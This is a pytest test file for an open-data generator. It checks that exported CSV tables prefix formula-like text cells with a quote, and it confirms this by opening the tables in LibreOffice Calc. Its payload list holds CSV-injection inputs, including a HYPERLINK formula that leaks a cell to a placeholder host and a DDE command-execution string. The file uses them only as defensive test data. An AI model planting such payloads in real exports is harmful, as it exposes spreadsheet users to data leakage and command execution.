"""The CSV tables are safe to open in a spreadsheet: a text cell that a spreadsheet would run
as a formula (one starting with = + - @, a tab or a carriage return) gets a single quote in
front (OWASP "CSV Injection"); amounts stay numbers, negative ones included. Checked on the
text and by opening the tables in LibreOffice Calc with formula evaluation on."""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from generator.site.opendata import activities_csv, centres_csv, finance_csv

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)
HARMLESS = ("四点半学校", "a=b", " =1+1", "（=）", "1-2", "'已有引号")


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def centre(samples_loaded):
    validated = samples_loaded
    assert not validated.report.errors, validated.report.format("text")
    ce = next(c for c in sorted(validated.centres, key=lambda c: c.id) if c.plans and c.quarters)
    return ce


def with_text(ce, text: str, amount: Decimal = Decimal("-500.00")):
    """``ce`` with ``text`` in every text field the tables print, and one line item of
    ``amount`` named ``text``."""
    p = ce.plans[0]
    a = dataclasses.replace(
        p.activities[0], id=text, title=text, room=text, service=text, target=text
    )
    q = ce.quarters[0]
    key, cat = next(iter(q.expenditure.items()))
    item = dataclasses.replace(cat.items[0], item=text, amount=amount)
    expenditure = {**q.expenditure, key: dataclasses.replace(cat, items=(item,))}
    return dataclasses.replace(
        ce,
        official_name=text,
        district=text,
        street=text,
        community=text,
        address=text,
        contact=dataclasses.replace(ce.contact, phone=text),
        operator=dataclasses.replace(ce.operator, name=text),
        plans=(dataclasses.replace(p, activities=(a,)),),
        quarters=(dataclasses.replace(q, expenditure=expenditure),),
    )


TEXT_COLUMNS = {
    "activities": ("centre_name", "activity_id", "title", "room", "service", "target"),
    "centres": ("name", "district", "street", "community", "address", "phone", "operator"),
    "finance": ("centre_name", "item"),
}


def tables(ce) -> dict[str, list[dict[str, str]]]:
    return {
        "activities": rows(activities_csv([ce])),
        "centres": rows(centres_csv([ce])),
        "finance": rows(finance_csv([ce])),
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_start_gets_a_quote(centre, payload: str) -> None:
    got = tables(with_text(centre, payload))
    for name, columns in TEXT_COLUMNS.items():
        hits = [r for r in got[name] if r[columns[-1]] == "'" + payload]
        assert hits, (name, payload)
        for col in columns:
            assert hits[0][col] == "'" + payload, (name, col)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(centre, text: str) -> None:
    got = tables(with_text(centre, text))
    for name, columns in TEXT_COLUMNS.items():
        hits = [r for r in got[name] if r[columns[-1]] == text]
        assert hits, (name, text)


def test_amounts_stay_numbers_negative_ones_too(centre) -> None:
    ce = with_text(centre, "-退款", Decimal("-500.00"))
    fin = rows(finance_csv([ce]))
    (refund,) = [r for r in fin if r["item"] == "'-退款"]
    assert refund["amount"] == "-500.00"
    acts = rows(activities_csv([ce]))
    assert all(not r["price"].startswith("'") for r in acts)


# ---------------------------------------------------------------- opened by a spreadsheet


SOFFICE = shutil.which("soffice")
# LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, …, token 13 =
# evaluate formulas (on: what a careless import does).
CSV_FILTER = "CSV:44,34,76,1,,0,false,true,false,false,false,false,true"


def open_in_calc(files: dict[str, bytes], tmp: Path) -> dict[str, list[list[openpyxl.cell.Cell]]]:
    """Each CSV imported by LibreOffice Calc and saved as .xlsx; its cells read back."""
    src = tmp / "csv"
    src.mkdir()
    for name, data in files.items():
        (src / f"{name}.csv").write_bytes(data)
    done = subprocess.run(
        [
            SOFFICE,
            "--headless",
            f"-env:UserInstallation=file://{tmp / 'profile'}",
            "--convert-to",
            "xlsx",
            f"--infilter={CSV_FILTER}",
            "--outdir",
            str(tmp / "xlsx"),
            *(str(src / f"{n}.csv") for n in files),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    out = {}
    for name in files:
        wb = openpyxl.load_workbook(tmp / "xlsx" / f"{name}.xlsx")
        out[name] = [list(r) for r in wb.active.iter_rows()]
    return out


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_runs_no_formula_from_the_tables(centre, tmp_path: Path) -> None:
    files = {}
    for i, payload in enumerate(PAYLOADS):
        ce = with_text(centre, payload, Decimal("-500.00"))
        files[f"activities{i}"] = activities_csv([ce])
        files[f"centres{i}"] = centres_csv([ce])
        files[f"finance{i}"] = finance_csv([ce])
    # the control: the same text without the quote is a live formula
    files["control"] = b"a,b\r\n=1+1,-500.00\r\n"
    sheets = open_in_calc(files, tmp_path)
    control = sheets.pop("control")
    assert control[1][0].data_type == "f", "the import evaluates formulas"
    for name, cells in sheets.items():
        formulas = [c.coordinate for r in cells for c in r if c.data_type == "f"]
        assert not formulas, (name, formulas)
    for i, payload in enumerate(PAYLOADS):
        texts = {c.value for r in sheets[f"activities{i}"] for c in r if c.data_type == "s"}
        # Calc keeps the text as written, the quote included; a tab or CR may be trimmed
        assert any(t.startswith("'") and payload.strip() in t for t in texts), payload
        fin = sheets[f"finance{i}"]
        head = [c.value for c in fin[0]]
        amounts = [r[head.index("amount")] for r in fin[1:]]
        assert all(c.data_type == "n" for c in amounts), "amounts are numbers"
        assert -500 in [c.value for c in amounts], "a negative amount stays a number"
